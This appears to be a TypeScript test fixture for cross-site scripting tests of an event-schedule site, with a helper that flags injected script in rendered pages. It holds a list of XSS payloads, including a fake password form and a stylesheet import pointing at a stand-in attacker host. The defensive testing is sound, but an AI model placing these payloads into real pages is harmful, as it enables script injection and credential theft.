import type { EventDocumentInput } from '../../src/modules/schedule/event-document.schemas.js';
import { attr, startTags, type Tag } from './support.js';

/*
 * Hostile content for XSS tests: payloads, an event document that carries one in every field a
 * person writes, and a checker that lists every way a page could run injected code.
 */

/** Classic XSS payloads: each would run script if it reached the page unescaped. */
export const PAYLOADS = [
  '<script>alert("x1")</script>',
  '<img src=x onerror=alert("x2")>',
  '<svg onload=alert("x3")>',
  '[click me](javascript:alert("x4"))',
  '"><script>alert("x5")</script>',
  "' onmouseover='alert(\"x6\")' x='",
  '</title><script>alert("x7")</script>',
  '<iframe src="javascript:alert(`x8`)"></iframe>',
  '<div style="width: expression(alert(\'x9\'))">x9</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x10</a>',
  '<style>@import "https://evil.example/x11.css";</style>',
  '<body onload=alert("x12")>',
  '<a href="jav&#x09;ascript:alert(\'x13\')">x13</a>',
  '[x14](JaVaScRiPt:alert(1))',
  '![x15](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("x16")>',
  '<object data="javascript:alert(17)"></object>',
  '"><svg/onload=alert(18)>',
  '<form action="https://evil.example/x19"><input name="password"><button>Sign in</button></form>',
] as const;

export const ZONE_DAY = '2027-05-20';
export const EVENT_TITLE = `XSS Conf ${PAYLOADS[6]}`;

/** One event where every user-written field carries a payload. */
export function xssDoc(): EventDocumentInput {
  const md = PAYLOADS.join('\n\n');
  return {
    format: 'hallway-event/1',
    community: { slug: 'xss-community', name: `Community ${PAYLOADS[0]}`, description: md },
    event: {
      slug: 'xss-conf',
      kind: 'conference',
      title: EVENT_TITLE,
      acronym: 'xss',
      timeZone: 'Europe/Amsterdam',
      startDate: ZONE_DAY,
      endDate: ZONE_DAY,
      venue: { name: `Venue ${PAYLOADS[1]}`, address: `Street ${PAYLOADS[4]}`, url: 'https://venue.example.org/?a=1&b=2' },
      description: md,
      hosts: [{ name: `Host ${PAYLOADS[2]}`, role: 'host', url: null }],
    },
    rooms: PAYLOADS.map((p, i) => ({ name: `R${i} ${p}`.slice(0, 100), description: p })),
    tracks: PAYLOADS.map((p, i) => ({ name: `T${i} ${p}`.slice(0, 100), color: '#336699', description: p })),
    speakers: PAYLOADS.map((p, i) => ({
      code: `s${i}`,
      name: `S${i} ${p}`,
      jobTitle: p,
      company: p,
      bio: md,
      // The website pattern only asks for http(s) and no spaces, so quotes and brackets get through validation.
      handles: { website: `https://example.org/${i}"onmouseover="alert(1)"<script>` },
    })),
    sponsors: PAYLOADS.map((p, i) => ({ name: `P${i} ${p}`, level: 'gold' as const, contribution: p, url: 'https://sponsor.example.org/' })),
    sessions: [
      ...PAYLOADS.map((p, i) => ({
        code: `c${i}`,
        kind: 'talk' as const,
        title: `Talk ${i} ${p}`,
        subtitle: p,
        abstract: md,
        room: `R${i} ${p}`.slice(0, 100),
        track: `T${i} ${p}`.slice(0, 100),
        start: `${ZONE_DAY}T10:00`,
        durationMinutes: 30,
        speakers: [`s${i}`],
        sponsoredBy: `P${i} ${p}`,
        links: [{ kind: 'slides' as const, title: p, url: 'https://slides.example.org/?q=1&r=2' }],
      })),
      {
        code: 'lunch',
        kind: 'meal' as const,
        title: `Lunch ${PAYLOADS[1]}`,
        abstract: md,
        start: `${ZONE_DAY}T12:00`,
        durationMinutes: 60,
        room: null,
        sponsoredBy: `P0 ${PAYLOADS[0]}`,
      },
    ],
  };
}

const OUR_SCRIPT = /^\/assets\/[a-z-]+\.js$/;
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'data', 'background', 'srcset']);
const FORBIDDEN_TAGS = new Set(['style', 'iframe', 'object', 'embed', 'svg', 'math', 'base', 'form', 'frame', 'frameset', 'applet', 'template', 'mglyph']);

/** Every way a page could run injected code, one message each; empty when the page is clean. */
export function executableForms(html: string): string[] {
  const problems: string[] = [];
  const tags = startTags(html);
  const scripts = tags.filter((t) => t.name === 'script');
  // Our scripts are same-origin files under /assets/ (the CSP allows nothing else to run).
  for (const s of scripts) if (!OUR_SCRIPT.test(attr(s, 'src') ?? '')) problems.push(`a <script> that is not ours: ${show(s)}`);
  if (/<script(?![^>]*src="\/assets\/[a-z-]+\.js")/i.test(html)) problems.push('a "<script" in the markup that is not one of our script tags');
  for (const t of tags) {
    // Our own forms post to a path of this site; a form from user text would have none of that.
    const ourForm = t.name === 'form' && /^\/(?!\/)/.test(attr(t, 'action') ?? '');
    if (FORBIDDEN_TAGS.has(t.name) && !ourForm) problems.push(`a <${t.name}> element`);
    if (t.name === 'meta' && attr(t, 'http-equiv') !== undefined) problems.push(`a <meta http-equiv>`);
    for (const [name, value] of t.attrs) {
      if (name.startsWith('on')) problems.push(`an event handler attribute ${name} on <${t.name}>`);
      if (name === 'style') problems.push(`a style attribute on <${t.name}>`);
      if (!URL_ATTRS.has(name)) continue; // other attributes are text (alt, content, aria-*): escaped, never run
      // Browsers ignore tabs, newlines and leading spaces in a URL's scheme.
      const v = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (v.includes('javascript:') || v.includes('vbscript:')) problems.push(`a javascript: URL in ${name} on <${t.name}>`);
      if (!/^(https?:\/\/|mailto:|\/(?!\/)|\?|#)/.test(v) && !(t.name === 'link' && v === 'data:,')) {
        problems.push(`a non-http(s) URL in ${name}="${value}" on <${t.name}>`);
      }
    }
  }
  return problems;
}

function show(t: Tag): string {
  return `<${t.name} ${t.attrs.map(([n, v]) => `${n}="${v}"`).join(' ')}>`;
}
